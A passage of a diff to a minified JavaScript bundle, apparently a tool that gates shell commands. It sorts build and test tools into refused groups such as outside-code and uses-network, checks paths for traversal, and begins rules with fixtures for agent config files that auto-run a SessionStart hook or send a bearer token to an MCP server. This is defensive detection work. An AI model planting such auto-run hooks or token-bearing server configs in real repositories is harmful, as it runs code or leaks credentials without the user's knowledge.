-readsBehind:k.reads_behind,handsOn:k.hands_on,data:k,refused:u([k.refused]),behind:y&&u([y.flags,r]),subcommands:new Map}}
-function o(k,v,b={}){const{completes:_}=v,y=(E,...x)=>({...g(E,[...x,b]),completes:_,subcommands:new Map}),{subcommands:m,
-...p}=v,l=y(p);for(const[E,x]of Object.entries(m)){const j=E.split(" "),N=(j.pop()??"").split(","),O=j.reduce((R,M)=>{const D=R.
-subcommands.get(M)??y({alone:"only-prints"},v.flags);return h(R,M,D)},l),$=y(x,v.flags);for(const R of N)h(O,R,$)}return{
-program:k,use:l,data:v}}function h(k,v,b){return k.subcommands.set(v,b),k.stops=!0,b}function c(k,v=[]){const b=m=>m.startsWith(
-"-")?m:`${m.length===1?"-":"--"}${m}`,_=u([k,{text:v.join(" ")}],b),y=new Map([..._.flags].map(([m,p])=>[m,{...p,name:b(
-p.name)}]));return{..._,flags:y,strict:!0}}const r={"only-prints":"help h version v V"};function u(k,v=i){const b=new Map,
-_=[];for(const y of k)for(const[m,p]of e(y??{},v))m.endsWith("~")?_.push([m.slice(0,-1),p]):b.has(m)||b.set(m,p);return{
-flags:b,prefixes:_}}function f({flags:k,prefixes:v},b){return k.get(b)??v.find(([_])=>b.startsWith(_))?.[1]}const d={known:()=>{},
-refusal:()=>{},unknown:()=>g({unknown:!0}),module:g({unknown:!0})},S=t.NO_PROGRAMS={tools:d,allowed:new Map,known:new Map,
+void 0,t.flagKey=c,t.groupsByName=n,t.isKnownTool=r,t.lookUp=p,t.movesTo=y,t.nameTable=e,t.programFamily=o,t.strictFlags=
+m,t.useTable=g;const s=[["?=","attached"],["=","value"],["?","optional"],["*","many"],["+","rest"]];function e(v,b=d=>d){
+const d=new Map;for(const[S,k]of Object.entries(v))for(const w of k.split(/\s+/).filter(Boolean)){const[,f=w,u]=/^([^=]+=)(.+)$/s.
+exec(w)??[],[E,x]=s.find(([T])=>f.endsWith(T))??["","none"],[j="",...N]=f.slice(0,f.length-E.length).split(",");for(const T of[
+j,...N]){const $=b(T);if(d.has($))throw new Error(`flag ${T} stands in two groups`);d.set($,{name:j,kind:S,arity:x,...u&&
+{choices:u.split("|")}})}}return d}function n(v){return new Map([...e(v)].map(([b,{kind:d}])=>[b,d]))}function c(v){return v.
+length===1?v:v.replace(/[-_]/g,"").toLowerCase()}function r({known:v,refusal:b},d){return v(d)!==void 0||b(d)!==void 0}function y({
+data:v},b){const d=v.completes&&b.startsWith("--");return v.directory_flags.some(S=>S===b||d&&S.startsWith(b))}function g(v,b=[]){
+const{flags:d,starts:S,behind:k}=v,w=S!==void 0&&S!=="command-texts"&&S!=="npm-scripts";return{...i([d,...b,a]),stops:w,
+readsBehind:v.reads_behind,handsOn:v.hands_on,data:v,refused:i([v.refused]),behind:k&&i([k.flags,a]),subcommands:new Map}}
+function o(v,b,d={}){const{completes:S}=b,k=(E,...x)=>({...g(E,[...x,d]),completes:S,subcommands:new Map}),{subcommands:w,
+...f}=b,u=k(f);for(const[E,x]of Object.entries(w)){const j=E.split(" "),N=(j.pop()??"").split(","),T=j.reduce((R,M)=>{const F=R.
+subcommands.get(M)??k({alone:"only-prints"},b.flags);return l(R,M,F)},u),$=k(x,b.flags);for(const R of N)l(T,R,$)}return{
+program:v,use:u,data:b}}function l(v,b,d){return v.subcommands.set(b,d),v.stops=!0,d}function m(v,b=[]){const d=w=>w.startsWith(
+"-")?w:`${w.length===1?"-":"--"}${w}`,S=i([v,{text:b.join(" ")}],d),k=new Map([...S.flags].map(([w,f])=>[w,{...f,name:d(
+f.name)}]));return{...S,flags:k,strict:!0}}const a={"only-prints":"help h version v V"};function i(v,b=c){const d=new Map,
+S=[];for(const k of v)for(const[w,f]of e(k??{},b))w.endsWith("~")?S.push([w.slice(0,-1),f]):d.has(w)||d.set(w,f);return{
+flags:d,prefixes:S}}function p({flags:v,prefixes:b},d){return v.get(d)??b.find(([S])=>d.startsWith(S))?.[1]}const h={known:()=>{},
+refusal:()=>{},unknown:()=>g({unknown:!0}),module:g({unknown:!0})},_=t.NO_PROGRAMS={tools:h,allowed:new Map,known:new Map,
 offered:()=>{}}},43696:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),t.SED_SCRIPT=t.AWK_PROGRAM=void 0;
-function s(i){return String.raw`(?:[^${i}\\[\n]|\\[^\n]|\[\^?[\w-]+\])*`}const e=t.SED_SCRIPT=(()=>{const i=String.raw`(?:\d+|\$|/${s(
-"/")}/)`,a=g=>String.raw`s[${g}]${s(g)}[${g}](?:[^${g}\\\n]|\\[^\n])*[${g}][gpiI\d]*`,w=`(?:${i}(?:,${i})?!? ?)?(?:[pdq=\
-]|${["/","|",",","#"].map(a).join("|")})`;return new RegExp(`^${w}(?: ?; ?${w})*$`)})(),n=t.AWK_PROGRAM=(()=>{const i=String.
-raw`(?:\$?(?:\d+|NF|NR)|"[^"\\\n]*")`,a=`!? ?(?:/${s("/")}/|${i}(?: ?(?:[<>=!]=|[<>]) ?${i})?)`,w=`${a}(?: (?:&&|[|][|])\
- ${a})*`,g=`[{] ?print(?: ${i}(?:[, ]+${i})*)? ?[}]`;return new RegExp(`^ ?(?:${w}|(?:${w} ?)?${g}) ?$`)})()},62844:function(A,t){
+function s(c){return String.raw`(?:[^${c}\\[\n]|\\[^\n]|\[\^?[\w-]+\])*`}const e=t.SED_SCRIPT=(()=>{const c=String.raw`(?:\d+|\$|/${s(
+"/")}/)`,r=g=>String.raw`s[${g}]${s(g)}[${g}](?:[^${g}\\\n]|\\[^\n])*[${g}][gpiI\d]*`,y=`(?:${c}(?:,${c})?!? ?)?(?:[pdq=\
+]|${["/","|",",","#"].map(r).join("|")})`;return new RegExp(`^${y}(?: ?; ?${y})*$`)})(),n=t.AWK_PROGRAM=(()=>{const c=String.
+raw`(?:\$?(?:\d+|NF|NR)|"[^"\\\n]*")`,r=`!? ?(?:/${s("/")}/|${c}(?: ?(?:[<>=!]=|[<>]) ?${c})?)`,y=`${r}(?: (?:&&|[|][|])\
+ ${r})*`,g=`[{] ?print(?: ${c}(?:[, ]+${c})*)? ?[}]`;return new RegExp(`^ ?(?:${y}|(?:${y} ?)?${g}) ?$`)})()},62844:function(A,t){
 Object.defineProperty(t,"__esModule",{value:!0}),t.BUNDLERS=void 0;const s=t.BUNDLERS=[{programs:["rollup"],flags:{text:`\
 
         amd.~= assetFileNames= chunkFileNames= compact dynamicImportInCjs entryFileNames= esModule
@@ -967,10 +984,10 @@ p-initial-build
       `,path:"root= source-root=",config:"config-file=",code:"plugins= presets=",output:"out-file,o= out-dir,d=","tool-w\
 rites":"copy-files,D delete-dir-on-start","reads-stdin":"filename,f=","never-ends":"watch,w"},match:["npx babel src --no\
 -comments"],not_match:["npx babel src -w"]}]},92739:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.TOOL_DATA=
-t.TOOLS=t.REFUSED_TOOLS=void 0,t.toolsWith=u;function e(){const d=s(91063);return e=function(){return d},d}function n(){
-const d=s(62844);return n=function(){return d},d}function i(){const d=s(1837);return i=function(){return d},d}function a(){
-const d=s(44828);return a=function(){return d},d}function w(){const d=s(89288);return w=function(){return d},d}function g(){
-const d=s(91265);return g=function(){return d},d}function o(){const d=s(71011);return o=function(){return d},d}const h=t.
+t.TOOLS=t.REFUSED_TOOLS=void 0,t.toolsWith=i;function e(){const h=s(91063);return e=function(){return h},h}function n(){
+const h=s(62844);return n=function(){return h},h}function c(){const h=s(1837);return c=function(){return h},h}function r(){
+const h=s(44828);return r=function(){return h},h}function y(){const h=s(89288);return y=function(){return h},h}function g(){
+const h=s(91265);return g=function(){return h},h}function o(){const h=s(71011);return o=function(){return h},h}const l=t.
 REFUSED_TOOLS=(0,e().groupsByName)({"outside-code":`
     bnr bun bunx coffee corepack cross-env-shell deno dotenv dotenv-cli dotenvx env-cmd execa foreman glob
     husky jake lage lerna lint-staged nf node npm npm-watch nps npx nx onchange
@@ -985,11 +1002,11 @@ REFUSED_TOOLS=(0,e().groupsByName)({"outside-code":`
     npm-publish patch-package prebuild-install release-it semantic-release surge tiged vercel wrangler
   `,"writes-files":`
     copyfiles cpx cpy cpy-cli del del-cli drizzle-kit knex mkdirp ncp rimraf typeorm
-  `}),c=t.TOOL_DATA=[...g().TEST_RUNNERS,...w().COVERAGE,...a().LINTERS,...i().COMPILERS,...n().BUNDLERS,...w().RUNNERS],
-r=t.TOOLS=new Map(c.flatMap(d=>{const S=(0,e().useTable)(d);return d.programs.map(k=>[k,S])}));function u(d){const S=new Map(
-[...d].flatMap(([k,v])=>{const b=c.find(({programs:_})=>_.includes(k));return b?[[k,(0,e().useTable)(b,[v])]]:[]}));return{
-known:k=>{const v=r.has(k)?k:f(k);return S.get(v)??r.get(v)},refusal:k=>h.get(k)??h.get(f(k)),unknown:o().unknownTool,module:o().
-UNKNOWN_MODULE}}function f(d){return d.replace(/^@[^/]*\//,"")}},44828:function(A,t){Object.defineProperty(t,"__esModule",
+  `}),m=t.TOOL_DATA=[...g().TEST_RUNNERS,...y().COVERAGE,...r().LINTERS,...c().COMPILERS,...n().BUNDLERS,...y().RUNNERS],
+a=t.TOOLS=new Map(m.flatMap(h=>{const _=(0,e().useTable)(h);return h.programs.map(v=>[v,_])}));function i(h){const _=new Map(
+[...h].flatMap(([v,b])=>{const d=m.find(({programs:S})=>S.includes(v));return d?[[v,(0,e().useTable)(d,[b])]]:[]}));return{
+known:v=>{const b=a.has(v)?v:p(v);return _.get(b)??a.get(b)},refusal:v=>l.get(v)??l.get(p(v)),unknown:o().unknownTool,module:o().
+UNKNOWN_MODULE}}function p(h){return h.replace(/^@[^/]*\//,"")}},44828:function(A,t){Object.defineProperty(t,"__esModule",
 {value:!0}),t.LINTERS=void 0;const s=t.LINTERS=[{programs:["eslint"],flags:{text:`
         cache cache-strategy= color concurrency= config-lookup debug env= eslintrc
         error-on-unmatched-pattern exit-on-fatal-error ext* fix-dry-run fix-type= flag* global*
@@ -1105,8 +1122,8 @@ ll","npm-run-all2","run-s","run-p"],starts:"npm-scripts",flags:{text:`
         aggregate-output continue-on-error,c max-parallel= print-label,l print-name,n parallel,p
         race,r sequential,s serial silent
       `},match:['npx run-s "lint:*" "test:** -- --silent"',"npx run-p lint:a lint:b -l"]}]},91265:function(A,t){Object.defineProperty(
-t,"__esModule",{value:!0}),t.TEST_RUNNERS=void 0,t.runsTests=i;const s=t.TEST_RUNNERS=[{programs:["vitest"],operands:"te\
-xt",flags:{text:`
+t,"__esModule",{value:!0}),t.TEST_RUNNERS=void 0;const s=t.TEST_RUNNERS=[{programs:["vitest"],operands:"text",flags:{text:`\
+
         allowOnly bail= bench browser? browser.~= cache changed? clearScreen
         color compare= coverage coverage.~= diff.~= disableConsoleIntercept exclude= expandSnapshotDiff
         expect expect.~= fileParallelism globals dom hideSkippedTests hookTimeout= includeTaskLocation
@@ -1198,11 +1215,9 @@ wd,C=",preload:"require,r="},match:["npx uvu test"]},{programs:["jasmine"],opera
  filter= filter-path= parallel= random= seed= stop-on-failure= verbose",config:"config=",code:"helper= reporter=",preload:"\
 require=","only-prints":"enumerate list-not-applicable version,v"},refused:{"writes-files":"init examples","only-prints":"\
 help version enumerate"},match:["npx jasmine --random=true"]},{programs:["tsd"],flags:{text:"files,f= show-diff typings,\
-t="},match:["npx tsd"]}],e=["pytest","py.test","unittest","nose2","tox","nox","phpunit","rspec"],n=new Set(["node","carg\
-o","go","bun","deno","dotnet","swift","mvn","gradle"]);function i(a){const w=new Set([...e,...s.flatMap(({programs:g})=>g)]);
-return a.some((g,o)=>w.has(g)?!0:n.has(g)&&/^(?:--)?test$/.test(a[o+1]??""))}},71011:function(A,t,s){Object.defineProperty(
-t,"__esModule",{value:!0}),t.UNKNOWN_MODULE=void 0,t.unknownTool=h;function e(){const c=s(91063);return e=function(){return c},
-c}const n={flags:{config:"config,c= config-file= rcfile= resolve-plugins-relative-to=",code:`
+t="},match:["npx tsd"]}]},71011:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.UNKNOWN_MODULE=void 0,
+t.unknownTool=l;function e(){const m=s(91063);return e=function(){return m},m}const n={flags:{config:"config,c= config-f\
+ile= rcfile= resolve-plugins-relative-to=",code:`
       custom-syntax= env= environment= extends= format= formatter= global-setup= global-teardown= hook~=
       import= load= load-plugins= loader= parser= plugin~= preset~= reporter,reporters= require,r= resolver= rulesdir=
       runner= setup~= test-environment= test-runner= transform= use= cmd= command= eval= init-hook=
@@ -1212,93 +1227,93 @@ uses-network":"publish upload","tool-writes":"apply apply-unsafe fix? in-place o
 napshots write","skips-tests":"allow-no-tests pass-with-no-tests","never-ends":"serve ui watch watch-all"},refused:{"out\
 side-code":"eval","uses-network":"add i install link remove uninstall update upgrade deploy login publish push release u\
 pload","never-ends":"console dev develop preview repl serve server shell start studio watch","tool-writes":"generate mig\
-rate","writes-files":"clean create eject init new"},unknown:!0},{refused:i}=n,a=[{programs:["next"],alone:"never-ends",ends_with:"\
+rate","writes-files":"clean create eject init new"},unknown:!0},{refused:c}=n,r=[{programs:["next"],alone:"never-ends",ends_with:"\
 build info lint telemetry typegen"},{programs:["parcel","vitepress"],alone:"never-ends",ends_with:"build"},{programs:["s\
 torybook"],alone:"never-ends",ends_with:"build doctor"},{programs:["testem"],alone:"never-ends",ends_with:"ci launchers"},
-{programs:["karma"],ends_with:"run start"},{programs:["ember","hexo","ng"],refused:{...i,"never-ends":`${i["never-ends"]}\
+{programs:["karma"],ends_with:"run start"},{programs:["ember","hexo","ng"],refused:{...c,"never-ends":`${c["never-ends"]}\
  s`}},{programs:["microbundle","ncc","postcss","rolldown","sass","tailwindcss","tsdown"],flags:{...n.flags,"never-ends":`${n.
-flags["never-ends"]} w`}}],w=(0,e().useTable)(n),g=t.UNKNOWN_MODULE=(0,e().useTable)({...n,flags:{...n.flags,code:"custo\
+flags["never-ends"]} w`}}],y=(0,e().useTable)(n),g=t.UNKNOWN_MODULE=(0,e().useTable)({...n,flags:{...n.flags,code:"custo\
 m-syntax= env= environment= formatter= parser= reporter= resolver= rulesdir= runner= use= cmd= command= eval= init-hook=",
-module:"import= load= load-plugins= loader= plugin~="}}),o=new Map(a.flatMap(c=>{const r=(0,e().useTable)({...n,...c});return c.
-programs.map(u=>[u,r])}));function h(c){return o.get(c)??w}},67147:function(A,t,s){Object.defineProperty(t,"__esModule",
-{value:!0}),t.additionsOf=g,t.everything=o,t.withAdditions=c;function e(){const r=s(41330);return e=function(){return r},
-r}function n(){const r=s(39491);return n=function(){return r},r}function i(){const r=s(32854);return i=function(){return r},
-r}const a={path:"node_modules",at:"anywhere"},w={dot:!0,nonegate:!0};function g(r=[],u=[a]){const f=r.flatMap(v=>(0,i().
-normalise)(v)||[]),d=f.length>0?(0,e().default)(f,w):()=>!1,S=v=>u.some(b=>b.at!=="home"&&(v===b.path||b.at==="anywhere"&&
-v.endsWith(`/${b.path}`))),k=(v,b)=>b(v)||(0,n().foldersAbove)(v).some(b);return{cover:v=>k(v,S)||k(v,d),areBuilt:v=>k(v,
-d)&&!k(v,S),mayBeIn:v=>f.some(b=>h(b.split("/"),v.split("/")))}}function o(r){const{cover:u}=g([],r);return{cover:()=>!0,
-areBuilt:f=>!u(f),mayBeIn:()=>!1}}function h([r,...u],[f,...d]){return r===void 0?!1:f===void 0||r.includes("**")||/[{(]/.
-test(r)?!0:e().default.isMatch(f,r,w)&&h(u,d)}function c(r,u,f){const d=b=>r.stat(b)===void 0&&(f.cover(b)||f.mayBeIn(b))&&
-(0,n().foldersAbove)(b).every(_=>(r.stat(_)?.kind??"directory")==="directory"),S=new Map,k=b=>(S.has(b)||S.set(b,u.stat(
-b)),S.get(b)),v=b=>{if(!d(b))return r.stat(b);const _=k(b),y=f.cover(b)||_?.kind==="directory";if(!(!_||!y))return{..._,
-tracked:!1,...f.areBuilt(b)&&{built:!0}}};return{label:r.label,...r.attributes&&{attributes:r.attributes},stat:v,readlink:b=>(d(
-b)?u:r).readlink(b),read:(b,_)=>(d(b)?u:r).read(b,_),list:b=>{const _=u.list(b).flatMap(({path:y})=>(d(y)?v(y):void 0)??
-[]);return[...r.list(b),..._].sort(n().byEntryPath)},files:()=>r.files()}}},39491:function(A,t,s){Object.defineProperty(
-t,"__esModule",{value:!0}),t.byEntryPath=g,t.canBeCheckedOut=a,t.folderOf=u,t.foldersAbove=o,t.indexEntries=w,t.notAFile=
-h,t.tooLarge=c;function e(){const f=s(41895);return e=function(){return f},f}function n(){const f=s(59490);return n=function(){
-return f},f}const i=/(?:^|\/)(?:\.{0,2}|\.git)(?:\/|$)|\0/i;function a(f){return!i.test(f)}function w(f){const d=new Map;
-for(const b of f){if(d.has(b.path))throw r(b.path,"occurs twice");if(!a(b.path))throw r(b.path,"cannot be checked out");
-d.set(b.path,b)}for(const{path:b,tracked:_}of[...d.values()])for(let y=u(b);y!=="";y=u(y)){const m=d.get(y)?.kind;if(m===
-"directory")break;if(m!==void 0)throw r(b,`is below the ${m} ${y}`);d.set(y,{path:y,kind:"directory",tracked:_})}const S=[
-...d.values()].sort(g);let k;d.set("",{path:"",kind:"directory",tracked:!0});const v=S.filter(({kind:b,tracked:_})=>_&&b!==
-"directory");return{stat:b=>d.get(b),list:b=>(k??=(0,n().groupBy)(S,({path:_})=>u(_)),k.get(b)??[]),files:()=>v}}function g(f,d){
-return f.path<d.path?-1:f.path>d.path?1:0}function o(f){const d=[];for(let S=f.indexOf("/");S>=0;S=f.indexOf("/",S+1))d.
-push(f.slice(0,S));return d}function h(f,d){return new(e()).GateError("file_unreadable",`${d} is not a regular file in ${f}`,
-"Check the spelling of the path. It must be a file of its own, not a directory or a symlink.")}function c(f,d,S,k){return new(e()).
-GateError("file_unreadable",`${d} in ${f} has ${S} bytes; the limit is ${k}`,"Split the file, or move large data out of \
-it.")}function r(f,d){return new(e()).GateError("file_unreadable",`The tree contains the path ${JSON.stringify(f)}, whic\
-h ${d}`,"Recreate the commit with an unmodified git.")}function u(f){return f.slice(0,Math.max(f.lastIndexOf("/"),0))}},
-32854:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),t.isLocatedIn=c,t.isWithin=o,t.isWithinAnywhere=_,t.
-locatePath=h,t.looksLikePattern=y,t.normalise=a,t.resolveInTree=w;const s=40,e={path:"",kind:"directory",tracked:!0},n=/^[A-Za-z]:/,
-i=/^[\w-][\w.-]*(?:\/[\w-][\w.-]*)*$/;function a(m){if(i.test(m))return m;const p=m.replaceAll("\\","/");if(p.startsWith(
-"/")||p.includes("\0"))return;const l=[];for(const E of p.split("/"))if(!(E===""||E===".")){if(E!=="..")l.push(E);else if(l.
-pop()===void 0)return}return n.test(p)||n.test(l[0]??"")?void 0:l.join("/")}function w(m,p){if(p.startsWith("/")||p.includes(
-"\0"))return{kind:"outside",path:p};const l=p.split("/").reverse(),E=[];let x=e,j=0;for(let N=l.pop();N!==void 0;N=l.pop()){
+module:"import= load= load-plugins= loader= plugin~="}}),o=new Map(r.flatMap(m=>{const a=(0,e().useTable)({...n,...m});return m.
+programs.map(i=>[i,a])}));function l(m){return o.get(m)??y}},67147:function(A,t,s){Object.defineProperty(t,"__esModule",
+{value:!0}),t.additionsOf=g,t.everything=o,t.withAdditions=m;function e(){const a=s(41330);return e=function(){return a},
+a}function n(){const a=s(39491);return n=function(){return a},a}function c(){const a=s(32854);return c=function(){return a},
+a}const r={path:"node_modules",at:"anywhere"},y={dot:!0,nonegate:!0};function g(a=[],i=[r]){const p=a.flatMap(b=>(0,c().
+normalise)(b)||[]),h=p.length>0?(0,e().default)(p,y):()=>!1,_=b=>i.some(d=>d.at!=="home"&&(b===d.path||d.at==="anywhere"&&
+b.endsWith(`/${d.path}`))),v=(b,d)=>d(b)||(0,n().foldersAbove)(b).some(d);return{cover:b=>v(b,_)||v(b,h),areBuilt:b=>v(b,
+h)&&!v(b,_),mayBeIn:b=>p.some(d=>l(d.split("/"),b.split("/")))}}function o(a){const{cover:i}=g([],a);return{cover:()=>!0,
+areBuilt:p=>!i(p),mayBeIn:()=>!1}}function l([a,...i],[p,...h]){return a===void 0?!1:p===void 0||a.includes("**")||/[{(]/.
+test(a)?!0:e().default.isMatch(p,a,y)&&l(i,h)}function m(a,i,p){const h=d=>a.stat(d)===void 0&&(p.cover(d)||p.mayBeIn(d))&&
+(0,n().foldersAbove)(d).every(S=>(a.stat(S)?.kind??"directory")==="directory"),_=new Map,v=d=>(_.has(d)||_.set(d,i.stat(
+d)),_.get(d)),b=d=>{if(!h(d))return a.stat(d);const S=v(d),k=p.cover(d)||S?.kind==="directory";if(!(!S||!k))return{...S,
+tracked:!1,...p.areBuilt(d)&&{built:!0}}};return{label:a.label,...a.attributes&&{attributes:a.attributes},stat:b,readlink:d=>(h(
+d)?i:a).readlink(d),read:(d,S)=>(h(d)?i:a).read(d,S),list:d=>{const S=i.list(d).flatMap(({path:k})=>(h(k)?b(k):void 0)??
+[]);return[...a.list(d),...S].sort(n().byEntryPath)},files:()=>a.files()}}},39491:function(A,t,s){Object.defineProperty(
+t,"__esModule",{value:!0}),t.byEntryPath=g,t.canBeCheckedOut=r,t.folderOf=i,t.foldersAbove=o,t.indexEntries=y,t.notAFile=
+l,t.tooLarge=m;function e(){const p=s(41895);return e=function(){return p},p}function n(){const p=s(59490);return n=function(){
+return p},p}const c=/(?:^|\/)(?:\.{0,2}|\.git)(?:\/|$)|\0/i;function r(p){return!c.test(p)}function y(p){const h=new Map;
+for(const d of p){if(h.has(d.path))throw a(d.path,"occurs twice");if(!r(d.path))throw a(d.path,"cannot be checked out");
+h.set(d.path,d)}for(const{path:d,tracked:S}of[...h.values()])for(let k=i(d);k!=="";k=i(k)){const w=h.get(k)?.kind;if(w===
+"directory")break;if(w!==void 0)throw a(d,`is below the ${w} ${k}`);h.set(k,{path:k,kind:"directory",tracked:S})}const _=[
+...h.values()].sort(g);let v;h.set("",{path:"",kind:"directory",tracked:!0});const b=_.filter(({kind:d,tracked:S})=>S&&d!==
+"directory");return{stat:d=>h.get(d),list:d=>(v??=(0,n().groupBy)(_,({path:S})=>i(S)),v.get(d)??[]),files:()=>b}}function g(p,h){
+return p.path<h.path?-1:p.path>h.path?1:0}function o(p){const h=[];for(let _=p.indexOf("/");_>=0;_=p.indexOf("/",_+1))h.
+push(p.slice(0,_));return h}function l(p,h){return new(e()).GateError("file_unreadable",`${h} is not a regular file in ${p}`,
+"Check the spelling of the path. It must be a file of its own, not a directory or a symlink.")}function m(p,h,_,v){return new(e()).
+GateError("file_unreadable",`${h} in ${p} has ${_} bytes; the limit is ${v}`,"Split the file, or move large data out of \
+it.")}function a(p,h){return new(e()).GateError("file_unreadable",`The tree contains the path ${JSON.stringify(p)}, whic\
+h ${h}`,"Recreate the commit with an unmodified git.")}function i(p){return p.slice(0,Math.max(p.lastIndexOf("/"),0))}},
+32854:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),t.isLocatedIn=m,t.isWithin=o,t.isWithinAnywhere=S,t.
+locatePath=l,t.looksLikePattern=k,t.normalise=r,t.resolveInTree=y;const s=40,e={path:"",kind:"directory",tracked:!0},n=/^[A-Za-z]:/,
+c=/^[\w-][\w.-]*(?:\/[\w-][\w.-]*)*$/;function r(w){if(c.test(w))return w;const f=w.replaceAll("\\","/");if(f.startsWith(
+"/")||f.includes("\0"))return;const u=[];for(const E of f.split("/"))if(!(E===""||E===".")){if(E!=="..")u.push(E);else if(u.
+pop()===void 0)return}return n.test(f)||n.test(u[0]??"")?void 0:u.join("/")}function y(w,f){if(f.startsWith("/")||f.includes(
+"\0"))return{kind:"outside",path:f};const u=f.split("/").reverse(),E=[];let x=e,j=0;for(let N=u.pop();N!==void 0;N=u.pop()){
 if(N===""||N===".")continue;if(x.kind!=="directory")return{kind:"missing",path:[...E,N].join("/")};if(N===".."){if(E.pop()===
-void 0)return{kind:"outside",path:p};x=g(E);continue}const O=[...E,N].join("/"),$=m.stat(O);if($===void 0)return{kind:"m\
-issing",path:O};if($.kind!=="symlink"){E.push(N),x=$;continue}if(j+=1,j>s)return{kind:"loop",path:p};const R=m.readlink(
-O);if(R===void 0||R===""||R.length>S)return{kind:"missing",path:O};if(R.startsWith("/")||R.includes("\0"))return{kind:"o\
-utside",path:O};l.push(...R.split("/").reverse())}return{kind:"inside",path:x.path,entry:x}}function g(m){return m.length===
-0?e:{...e,path:m.join("/")}}function o(m,p,{ignoreCase:l=!1}={}){const E=a(m),x=a(p);return E===void 0||x===void 0?!1:v(
-x,E,l)}function h(m,p,{at:l,tree:E}){if(k(m))return;const j=(d(m)??[...d(p)??[],...f(m)]).reverse(),N=u((d(l)??[]).filter(
-R=>R!=="")),O=[];let $=0;for(let R=j.pop();R!==void 0;R=j.pop()){if(R===""||R===".")continue;if(R===".."){O.pop();continue}
-O.push(R);const M=E&&r(E,N,u(O));if(M===void 0)continue;if($+=1,$>s||k(M))return;const D=d(M);D===void 0?O.pop():O.length=
-0,j.push(...(D??f(M)).reverse())}return u(O)}function c(m,p,{ignoreCase:l=!1}={}){return v(p.slice(1),m.slice(1),l)}function r(m,p,l){
-if(c(l,p))return m.readlink(p==="/"?l.slice(1):l.slice(p.length+1))}function u(m){return`/${m.join("/")}`}function f(m){
-return m.replaceAll("\\","/").split("/")}function d(m){return/^(?:[\\/]|[A-Za-z]:[\\/])/.test(m)?f(m):void 0}const S=4096;
-function k(m){return m.length>S?!0:m.includes("\0")||/^(?:\\\\|[A-Za-z]:(?![\\/]))/.test(m)}function v(m,p,l){if(m==="")
-return!0;const[E,x]=l?[b(p),b(m)]:[p,m];return E===x||E.startsWith(`${x}/`)}function b(m){return i.test(m)?m.toLowerCase():
-m.normalize("NFC").toUpperCase().toLowerCase()}function _(m,p){const l=a(m);if(l!==void 0)return`/${b(l)}/`.includes(`/${b(
-p)}/`);const E=m.split("/");return E.some((x,j)=>o(E.slice(j).join("/"),p,{ignoreCase:!0}))}function y(m){return/[*?]|^!|\{[^{}]*,[^{}]*\}|^["'`].*["'`]$/.
-test(m)||m.trim()!==m}},18118:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.agentFileRules=void 0;function e(){
-const k=s(43767);return e=function(){return k},k}const n=".claude/settings.json";function i(k){return JSON.stringify({hooks:{
-SessionStart:[{hooks:[{type:"command",command:k}]}]}})}function a(k,v={}){return{head:{[n]:i(k),...v}}}function w(k){const b={
-url:"https://search.example/mcp",headers:{Authorization:`Bearer ${k}`}};return{head:{".mcp.json":JSON.stringify({mcpServers:{
-search:b}})}}}const g=`agent_files:
-  level: approve   # off, warn, approve or error`,o={advice:!0,actor:"human"};function h({tool:k,event:v,command:b,state:_}){
-const y=/^https?:/.test(b)?"connects to":"runs";return`${_===""?"For":`${_==="new"?"New":"Changed"} in this change: for`}\
- ${v}, ${k} ${y} \`${b}\``}const c={widens:"it gives more trust",narrows:"it gives less trust",changes:"it gives other t\
-rust"},r="Read what it runs before anyone opens this branch, or remove it.",u={[n]:i("node a.js")},f={base:{"a.js":`work\
+void 0)return{kind:"outside",path:f};x=g(E);continue}const T=[...E,N].join("/"),$=w.stat(T);if($===void 0)return{kind:"m\
+issing",path:T};if($.kind!=="symlink"){E.push(N),x=$;continue}if(j+=1,j>s)return{kind:"loop",path:f};const R=w.readlink(
+T);if(R===void 0||R===""||R.length>_)return{kind:"missing",path:T};if(R.startsWith("/")||R.includes("\0"))return{kind:"o\
+utside",path:T};u.push(...R.split("/").reverse())}return{kind:"inside",path:x.path,entry:x}}function g(w){return w.length===
+0?e:{...e,path:w.join("/")}}function o(w,f,{ignoreCase:u=!1}={}){const E=r(w),x=r(f);return E===void 0||x===void 0?!1:b(
+x,E,u)}function l(w,f,{at:u,tree:E}){if(v(w))return;const j=(h(w)??[...h(f)??[],...p(w)]).reverse(),N=i((h(u)??[]).filter(
+R=>R!=="")),T=[];let $=0;for(let R=j.pop();R!==void 0;R=j.pop()){if(R===""||R===".")continue;if(R===".."){T.pop();continue}
+T.push(R);const M=E&&a(E,N,i(T));if(M===void 0)continue;if($+=1,$>s||v(M))return;const F=h(M);F===void 0?T.pop():T.length=
+0,j.push(...(F??p(M)).reverse())}return i(T)}function m(w,f,{ignoreCase:u=!1}={}){return b(f.slice(1),w.slice(1),u)}function a(w,f,u){
+if(m(u,f))return w.readlink(f==="/"?u.slice(1):u.slice(f.length+1))}function i(w){return`/${w.join("/")}`}function p(w){
+return w.replaceAll("\\","/").split("/")}function h(w){return/^(?:[\\/]|[A-Za-z]:[\\/])/.test(w)?p(w):void 0}const _=4096;
+function v(w){return w.length>_?!0:w.includes("\0")||/^(?:\\\\|[A-Za-z]:(?![\\/]))/.test(w)}function b(w,f,u){if(w==="")
+return!0;const[E,x]=u?[d(f),d(w)]:[f,w];return E===x||E.startsWith(`${x}/`)}function d(w){return c.test(w)?w.toLowerCase():
+w.normalize("NFC").toUpperCase().toLowerCase()}function S(w,f){const u=r(w);if(u!==void 0)return`/${d(u)}/`.includes(`/${d(
+f)}/`);const E=w.split("/");return E.some((x,j)=>o(E.slice(j).join("/"),f,{ignoreCase:!0}))}function k(w){return/[*?]|^!|\{[^{}]*,[^{}]*\}|^["'`].*["'`]$/.
+test(w)||w.trim()!==w}},18118:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.agentFileRules=void 0;function e(){
+const v=s(43767);return e=function(){return v},v}const n=".claude/settings.json";function c(v){return JSON.stringify({hooks:{
+SessionStart:[{hooks:[{type:"command",command:v}]}]}})}function r(v,b={}){return{head:{[n]:c(v),...b}}}function y(v){const d={
+url:"https://search.example/mcp",headers:{Authorization:`Bearer ${v}`}};return{head:{".mcp.json":JSON.stringify({mcpServers:{
+search:d}})}}}const g=`agent_files:
+  level: approve   # off, warn, approve or error`,o={advice:!0,actor:"human"};function l({tool:v,event:b,command:d,state:S}){
